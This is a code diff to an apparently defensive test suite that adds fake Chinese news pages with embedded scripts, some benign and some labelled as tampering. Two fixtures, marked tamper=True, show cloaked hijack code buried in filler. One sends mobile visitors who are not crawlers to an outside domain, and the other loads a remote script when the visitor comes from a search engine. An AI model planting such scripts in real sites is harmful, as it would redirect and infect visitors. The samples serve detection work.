@@ -50,6 +50,7 @@ def cases() -> Iterator[PageCase]:
     yield from _fronts()
     yield from _dates()
     yield from _answers()
+    yield from _scripts()
 
 
 def _not_blank() -> Iterator[PageCase]:
@@ -277,3 +278,42 @@ def _answers() -> Iterator[PageCase]:
         "article",
         date="2026-03-01",
     )
+
+
+def _scripts() -> Iterator[PageCase]:
+    """Scripts that look at the browser and name a foreign host, and scripts in which the one decides the other."""
+    title = "全市春季农业生产现场会在东山县召开"
+    filler = "function f%d(a,b){var c=a+b;for(var i=0;i<c;i++){a=a^i;}return a?b:c;}" * 60
+
+    def article(script: str) -> str:
+        return _page(
+            f"{title}_{SITE}",
+            f"<h1>{title}</h1><div>2024-10-12 来源：云岭日报</div><div>{PROSE}</div><script>{script}</script>",
+        )
+
+    for name, script in (
+        (
+            "picture-for-desktops",
+            "var m=/android|iphone|mobile/.test(navigator.userAgent.toLowerCase());if(!m){var p=new Image();p.src='//img2.cache.wenyuan.example.com/foot_pop.jpg';}",
+        ),
+        (
+            "report-of-errors",
+            f"var ua=navigator.userAgent;var old=/msie 6|android 2/i.test(ua);{filler}var B=new Image,S='https://badjs.bridge.example.com/badjs?id='+l;B.src=S.slice(0,1024);",
+        ),
+        (
+            "addresses-to-share",
+            f"var m=/iphone|android/i.test(navigator.userAgent);{filler}window.open(u.replace('{{url}}',location.href));var douban='http://www.douban.example.com/share/service?href={{url}}';",
+        ),
+    ):
+        yield _case(f"script-{name}", article(script), "article", tamper=False, hidden=False)
+    for name, script in (
+        (
+            "sent-away-in-a-library",
+            f"{filler}if(/baiduspider|sogou/i.test(navigator.userAgent)==false&&/android|iphone/i.test(navigator.userAgent)){{location.href='https://www.vnsr8808.example.com/app'}}{filler}",
+        ),
+        (
+            "script-in-a-library",
+            f"{filler}if(document.referrer.indexOf('baidu')>0){{var s=document.createElement('script');s.src='//js.tycqwe.example.net/j.js';document.body.appendChild(s);}}{filler}",
+        ),
+    ):
+        yield _case(f"script-{name}", article(script), "article", tamper=True)
